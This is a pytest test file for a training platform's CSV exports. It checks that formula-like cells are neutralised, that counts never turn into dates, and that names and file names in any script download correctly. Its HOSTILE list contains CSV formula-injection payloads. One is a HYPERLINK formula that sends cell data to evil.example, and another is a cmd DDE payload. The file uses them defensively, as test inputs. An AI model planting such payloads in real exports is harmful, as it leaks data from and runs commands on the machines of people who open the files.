"""Every CSV the platform writes: no cell a spreadsheet would run as a formula, no count that
turns into a date, names in any script, and a file name in any script."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from pathlib import Path
from urllib.parse import unquote

import pytest

from tests.helpers import assign, make_certificate, make_entry, make_user, save, sign_in
from training.csv_export import csv_text, neutralise
from training.models import Cohort, Role

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "x;=1+1",  # a spreadsheet that splits on ";" would start a new cell at "="
]


def parsed(response) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    body = response.get_data()
    response.close()
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def assert_neutralised(cell: str, original: str) -> None:
    """The cell shows the original text, marked as text if a spreadsheet would run it."""
    dangerous = re.match(r"^[\s\"']*[=+\-@\t\r]", original)
    assert cell == ("'" + original if dangerous else original)


def filename_of(response) -> str:  # type: ignore[no-untyped-def]
    """The file name a browser saves as, from RFC 6266 ``filename*`` if there, else ``filename``."""
    header = response.headers["Content-Disposition"]
    header.encode("latin-1")  # what every WSGI server must be able to send (PEP 3333)
    assert header.isascii(), header
    star = re.search(r"filename\*=UTF-8''([^;]+)", header)
    return unquote(star.group(1)) if star else re.search(r'filename="?([^";]+)', header).group(1)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_trainee_name_comes_out_of_the_cohort_csv_as_text(app, client, name):
    cohort = Cohort(name="Spring", start_date=date(2026, 3, 1), track_id="peer-recovery")
    save(cohort)
    make_user(Role.TRAINEE, name=name, cohort_id=cohort.id)
    sign_in(client, make_user(Role.LEAD))
    (row,) = parsed(client.get(f"/lead/cohorts/{cohort.id}?format=csv"))
    assert_neutralised(row["Name"], name)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_supervisor_name_and_credential_come_out_of_the_hours_export_as_text(
    app, client, name
):
    supervisor = make_user(Role.SUPERVISOR, name=name, credential=name)
    trainee = make_user(Role.TRAINEE)
    assign(trainee, supervisor)
    make_entry(trainee, supervisor, status="approved")
    sign_in(client, trainee)
    (row,) = parsed(client.get("/hours/export.csv"))
    assert_neutralised(row["Supervisor"], name)
    assert_neutralised(row["Supervisor credential"], name)
    assert row["Hours"] == "1" and row["Kind"] == "Individual supervision"


def test_counts_in_the_cohort_csv_cannot_turn_into_dates(app, client, tmp_path):
    from tests.training.certs.test_views import use_track

    use_track(app, tmp_path)
    cohort = Cohort(name="Spring", start_date=date(2026, 3, 1), track_id="peer-recovery")
    save(cohort)
    make_user(Role.TRAINEE, name="Riley Chen", cohort_id=cohort.id)
    sign_in(client, make_user(Role.LEAD))
    response = client.get(f"/lead/cohorts/{cohort.id}?format=csv")
    (row,) = parsed(response)
    assert not [value for value in row.values() if re.fullmatch(r"\d+\s*/\s*\d+", value)]
    assert (row["Courses completed"], row["Courses in the track"]) == ("0", "1")
    assert row["Requirements met"] == "0" and int(row["Requirements in total"]) > 0
    assert row["Average best quiz score (%)"] == "0" and row["Eligible"] == "no"


def test_names_in_any_script_and_a_chinese_cohort_name_download(app, client):
    cohort = Cohort(name="春季班 2026", start_date=date(2026, 3, 1), track_id="peer-recovery")
    save(cohort)
    names = ["陈丽", "山田 太郎", "ليلى حداد", "Zoë Ångström"]
    for name in names:
        make_user(Role.TRAINEE, name=name, cohort_id=cohort.id)
    sign_in(client, make_user(Role.LEAD))
    response = client.get(f"/lead/cohorts/{cohort.id}?format=csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert filename_of(response) == "cohort-春季班-2026.csv"
    # Without a byte order mark Excel reads the file in the computer's legacy code page.
    assert response.get_data().startswith(b"\xef\xbb\xbf")
    fallback = re.search(r'filename="?([^";]+)', response.headers["Content-Disposition"])
    assert fallback.group(1) == "cohort--2026.csv"  # for browsers without RFC 6266
    assert sorted(row["Name"] for row in parsed(response)) == sorted(names)


def test_the_hours_export_keeps_its_plain_file_name(app, client):
    sign_in(client, make_user(Role.TRAINEE))
    response = client.get("/hours/export.csv")
    assert filename_of(response) == "approved-hours.csv"
    assert parsed(response) == []


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        (" \t @x", "' \t @x"),
        ("\x00=1", "'\x00=1"),
        ("a-b", "a-b"),
        ("Mary-Jane O'Neil", "Mary-Jane O'Neil"),
        ("May Chen", "May Chen"),
        ("Spring 2026", "Spring 2026"),
        ("2026-03-01", "'2026-03-01"),  # text that looks like a date stays that text
        (date(2026, 3, 1), "2026-03-01"),  # a real date is written for the spreadsheet to read
        (datetime(2026, 3, 1, 14, 30, tzinfo=UTC), "2026-03-01 14:30"),
        (10.0, 10),
        (True, "yes"),
        ("", ""),
        (None, ""),
        (5, 5),
        (1.5, 1.5),
    ],
)
def test_the_one_writer_neutralises_only_what_a_spreadsheet_would_run(value, cell):
    assert neutralise(value) == cell


def test_every_cell_is_quoted_so_no_separator_starts_a_new_cell():
    text = csv_text(["Name", "Score"], [["x;=1+1", 5], ['say "hi"', None]])
    assert text == '"Name","Score"\r\n"x;=1+1","5"\r\n"say ""hi""",""\r\n'


def test_every_csv_goes_through_the_one_writer():
    """The class of bug: no code but training/csv_export.py writes CSV itself (reading one, as
    the people import does, is not writing; a file input may name text/csv in ``accept``)."""
    found = [
        f"{path.relative_to(ROOT)}:{number}"
        for path in sorted((ROOT / "training").rglob("*.py"))
        if path.name != "csv_export.py"
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if re.search(r"csv\.writer|DictWriter|mimetype=.*text/csv|Content-Type.*text/csv", line)
    ]
    assert found == []


#: text Excel, Calc or Sheets would turn into a date, time, number or boolean when opening a CSV
CONVERTIBLE = [
    "5/5",
    "1-2",
    "3/4",
    "12:30",
    "1e5",
    "00123",
    "TRUE",
    "false",
    "May 5",
    "March 2026",
    "(5)",
    "$5",
    ".5",
    "#N/A",
    " 42",
]


@pytest.mark.parametrize("name", CONVERTIBLE)
def test_a_name_a_spreadsheet_would_convert_comes_out_of_the_cohort_csv_as_that_text(
    app, client, name
):
    cohort = Cohort(name="Spring", start_date=date(2026, 3, 1), track_id="peer-recovery")
    save(cohort)
    make_user(Role.TRAINEE, name=name, cohort_id=cohort.id)
    sign_in(client, make_user(Role.LEAD))
    (row,) = parsed(client.get(f"/lead/cohorts/{cohort.id}?format=csv"))
    assert row["Name"] == "'" + name


@pytest.mark.parametrize("credential", ["00123", "3/4", "12:30"])
def test_a_credential_a_spreadsheet_would_convert_comes_out_of_the_hours_export_as_text(
    app, client, credential
):
    supervisor = make_user(Role.SUPERVISOR, name="1-2", credential=credential)
    trainee = make_user(Role.TRAINEE)
    assign(trainee, supervisor)
    make_entry(trainee, supervisor, status="approved", minutes=90)
    sign_in(client, trainee)
    (row,) = parsed(client.get("/hours/export.csv"))
    assert row["Supervisor"] == "'1-2"
    assert row["Supervisor credential"] == "'" + credential
    # real numbers and dates are written for the spreadsheet to read as such, unmarked
    assert row["Hours"] == "1.5"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d", row["Date"])
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", row["Signed at (UTC)"])


def test_numbers_in_the_cohort_csv_stay_numbers(app, client, tmp_path):
    from tests.training.certs.test_views import use_track

    use_track(app, tmp_path)
    cohort = Cohort(name="Spring", start_date=date(2026, 3, 1), track_id="peer-recovery")
    save(cohort)
    supervisor = make_user(Role.SUPERVISOR)
    trainee = make_user(Role.TRAINEE, name="Riley Chen", cohort_id=cohort.id)
    assign(trainee, supervisor)
    make_entry(trainee, supervisor, status="approved", minutes=90, kind="supervised_practice")
    sign_in(client, make_user(Role.LEAD))
    (row,) = parsed(client.get(f"/lead/cohorts/{cohort.id}?format=csv"))
    assert row["Approved practice hours"] == "1.5"
    assert row["Approved supervision hours"] == "0"
    assert row["Courses completed"] == "0"


@pytest.mark.parametrize(
    ("fields", "status", "expires"),
    [
        ({}, "valid", True),
        ({"revoked_at": datetime.now(UTC), "revoke_reason": "x"}, "revoked", False),
        ({"issued_days_ago": 800, "expires_in_days": -30}, "expired", True),
    ],
    ids=["valid", "revoked", "expired"],
)
def test_the_cohort_csv_shows_an_expiry_only_next_to_a_certificate_that_was_current(
    app, client, tmp_path, fields, status, expires
):
    from tests.training.certs.test_views import use_track

    use_track(app, tmp_path)
    cohort = Cohort(name="Spring", start_date=date(2026, 3, 1), track_id="peer-recovery")
    save(cohort)
    trainee = make_user(Role.TRAINEE, name="Riley Chen", cohort_id=cohort.id)
    certificate = make_certificate(trainee, **fields)
    sign_in(client, make_user(Role.LEAD))
    (row,) = parsed(client.get(f"/lead/cohorts/{cohort.id}?format=csv"))
    assert row["Certificate"] == status
    assert row["Expires"] == (certificate.expires_on.isoformat() if expires else "")
